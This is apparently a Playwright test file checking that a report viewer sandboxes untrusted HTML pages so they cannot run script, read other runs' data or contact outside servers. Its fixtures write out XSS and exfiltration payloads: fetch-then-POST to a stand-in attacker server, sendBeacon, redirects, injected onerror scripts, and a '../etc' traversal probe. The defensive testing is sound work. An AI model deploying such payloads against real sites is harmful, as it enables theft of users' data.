"""`toolyard view` in a real browser: our page works, and a stranger's page reaches neither another run nor the net."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from plain_service import plain_service
from report_toy import toy_report
from served_pages import running
from toolyard.report.page.run_page import render_page
from toolyard.report.report_files import write_report
from toolyard.review.web.server import PageServer
from toolyard.review.web.view_pages import report_server
from toolyard.run.api import evaluate

MADE_FIRST = ("own_page", "compared")
# Everything by which a page could run something, read the other run, or tell somebody.
HOSTILE = """<!doctype html><html><head>
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data:">
<link rel="stylesheet" href="{evil}/style"><link rel="prefetch" href="{evil}/prefetch">
<style>@import url({evil}/import); body {{ background: url({evil}/background) }}</style>
<title>innocent</title></head>
<body onload="document.title='owned'">
<p id="shown">a table of figures</p>
<img src="{evil}/image" onerror="document.title='owned'">
<iframe src="/runs/fine/report.json"></iframe><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video"></video>
<svg><image href="{evil}/svg"/><script>document.title='owned'</script></svg>
<form action="{evil}/form" method="post"><input name="a"><button id="send">send</button></form>
<a id="script" href="javascript:document.title='owned'">figures</a>
<script>
document.title = 'owned';
fetch('/runs/fine/report.json').then(r => r.text()).then(t => fetch('{evil}/stolen', {{method: 'POST', body: t}}));
navigator.sendBeacon('{evil}/beacon', 'x');
location = '{evil}/location';
</script>
<script src="{evil}/script"></script><script src="data:text/javascript,document.title='owned'"></script>
"""
REFRESH = '<meta http-equiv="refresh" content="0;url={evil}/refresh">'


@pytest.fixture
def evil() -> Iterator[tuple[str, list[Any]]]:
    """The address of a server that answers everybody, and what it was asked."""
    allowed = {"Access-Control-Allow-Origin": "*"}
    with plain_service(lambda path, body: (200, "text/plain", b""), **allowed) as service:
        yield service.address, service.seen


@pytest.fixture(scope="module")
def own_page(tmp_path_factory: pytest.TempPathFactory) -> str:
    return render_page(toy_report(tmp_path_factory.mktemp("page")))


@pytest.fixture(scope="module")
def compared(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    runs = tmp_path_factory.mktemp("compared")
    folders = [
        evaluate("nestools", f"scripted/{name}", limit=4, runs=runs).folder for name in ("oracle", "empty")
    ]
    for folder in folders:
        write_report(folder)
    return folders


def add_run(runs: Path, name: str, page: str) -> None:
    (runs / name).mkdir(parents=True)
    manifest = {"identity": {"benchmark": "toy", "model": name}}
    (runs / name / "manifest.json").write_text(json.dumps(manifest))
    (runs / name / "report.json").write_text(json.dumps({"headline": "secret", "manifest": manifest}))
    (runs / name / "report.html").write_text(page, encoding="utf-8")


@pytest.fixture
def runs(tmp_path: Path, own_page: str) -> Path:
    add_run(tmp_path / "runs", "fine", own_page)
    return tmp_path / "runs"


@pytest.fixture
def server(runs: Path) -> Iterator[PageServer]:
    with report_server(runs) as found, running(found):
        yield found


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    yield context.new_page()
    context.close()


def test_our_own_page_works_from_the_index_and_complains_about_nothing(
    server: PageServer, page: Page
) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(server.url)
    page.get_by_role("link", name="fine").click()
    page.wait_for_selector("body[data-ready]")
    page.locator("#list").evaluate("box => { box.scrollTop = 0 }")
    page.locator("#row-0").click()
    expect(page.locator("#detail h3")).to_have_text("s0")
    page.select_option('select[data-group="scenario"]', label="office (40)")
    expect(page.locator("#count")).to_have_text("40 of 120 samples")
    page.click("#theme")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"
    page.go_back()
    expect(page.locator("h1")).to_have_text("Runs")
    assert complaints == []


def test_runs_are_sorted_by_a_click_and_ticked_ones_compared(page: Page, compared: list[Path]) -> None:
    complaints: list[str] = []
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    with report_server(compared[0].parent) as server, running(server):
        page.goto(server.url)
        link = page.locator("#compare")
        expect(link).to_have_text("Tick two runs or more to compare them")
        page.get_by_role("button", name="percent").click()
        expect(page.locator("tbody th").first).to_have_text("scripted/oracle")
        page.get_by_role("button", name="percent").click()
        expect(page.locator("tbody th").first).to_have_text("scripted/empty")
        for folder in compared:
            page.get_by_label(f"choose {folder.name}").check()
        expect(link).to_have_text("Compare 2 runs")
        link.click()
        expect(page.locator("h1")).to_have_text("2 models compared")
        page.wait_for_selector("body[data-ready]")
        assert page.goto(f"{server.url}compare?run={compared[0].name}&run=../etc").status == 404  # type: ignore[union-attr]
    assert [text for text in complaints if "404" not in text] == []


def test_runs_are_filtered_by_words_and_a_phone_shows_their_percent(page: Page, compared: list[Path]) -> None:
    with report_server(compared[0].parent) as server, running(server):
        page.set_viewport_size({"width": 400, "height": 860})
        page.goto(server.url)
        rows = page.locator("tbody tr:visible")
        assert rows.count() == 2
        for cell in page.locator("tbody td.strong").all():
            box = cell.bounding_box()
            assert box is not None and box["x"] + box["width"] <= 400
        assert page.evaluate("document.documentElement.scrollWidth") <= 400
        page.fill("#filter", "Oracle nestools")
        expect(rows).to_have_count(1)
        page.fill("#filter", "oracle mtu")
        expect(rows).to_have_count(0)
        expect(page.locator("#nothing")).to_be_visible()
        page.fill("#filter", "")
        expect(rows).to_have_count(2)


def test_our_own_page_has_an_origin_of_its_own(server: PageServer, page: Page) -> None:
    page.goto(f"{server.url}runs/fine/report.html")
    page.wait_for_selector("body[data-ready]")
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("fetch('/').then(() => 'read', error => error.name)") == "TypeError"
    with pytest.raises(Exception, match="SecurityError"):
        page.evaluate("localStorage.length")


@pytest.mark.parametrize("extra", ["", REFRESH])
def test_a_strangers_page_runs_nothing_and_reaches_nobody(
    server: PageServer, runs: Path, page: Page, evil: tuple[str, list[Any]], extra: str
) -> None:
    address, seen = evil
    add_run(runs, "hostile", (extra + HOSTILE).format(evil=address))
    page.goto(server.url)
    page.get_by_role("link", name="hostile").click()
    expect(page.locator("#shown")).to_be_visible()
    page.locator("#script").click()
    page.locator("#send").click()
    page.wait_for_timeout(500)
    assert page.title() == "innocent"
    assert page.url == f"{server.url}runs/hostile/report.html"
    assert seen == []


@pytest.mark.parametrize("where", ["<title>", "<footer>"])
def test_our_page_with_a_strangers_parts_runs_nothing_of_theirs(
    server: PageServer, runs: Path, own_page: str, page: Page, evil: tuple[str, list[Any]], where: str
) -> None:
    address, seen = evil
    read = "fetch('/runs/fine/report.json').then(r => r.text())"
    stolen = f"{read}.then(t => fetch('{address}/', {{method: 'POST', body: t}}))"
    bad = f'<img src=x onerror="{stolen}"><script>{stolen}</script>'
    assert where in own_page
    add_run(runs, "hostile", own_page.replace(where, bad + where))
    page.goto(f"{server.url}runs/hostile/report.html")
    page.wait_for_selector("body[data-ready]")
    page.wait_for_timeout(300)
    assert seen == []


def test_a_page_of_another_version_is_readable_and_says_what_it_lacks(
    server: PageServer, runs: Path, own_page: str, page: Page
) -> None:
    older = own_page.replace('"use strict";', '"use strict"; /* older */').replace(
        "<style>", "<style>/* older */"
    )
    # An older page carries its own hashes; here only the change matters.
    head, tail = older.split('<meta http-equiv="Content-Security-Policy"', 1)
    add_run(runs, "older", head + tail.split(">", 1)[1])
    page.goto(server.url)
    expect(page.get_by_role("row", name="older")).to_contain_text("write it again: toolyard report")
    page.get_by_role("link", name="older").click()
    expect(page.locator("noscript p")).to_be_visible()
    expect(page.locator("#figures table").first).to_be_visible()
    assert page.locator("main").evaluate("node => getComputedStyle(node).maxWidth") != "none"


def test_the_token_of_the_printed_address_opens_index_and_reports(runs: Path, page: Page) -> None:
    with report_server(runs, host="0.0.0.0") as server, running(server):
        assert page.goto(f"http://127.0.0.1:{server.port}/").status == 403  # type: ignore[union-attr]
        page.goto(f"http://127.0.0.1:{server.port}/?token={server.guard.token}")
        assert "token" not in page.url
        page.get_by_role("link", name="fine").click()
        page.wait_for_selector("body[data-ready]")
        page.reload()
        page.wait_for_selector("body[data-ready]")
        page.evaluate("location.href = '/'")
        expect(page.locator("h1")).to_have_text("Runs")
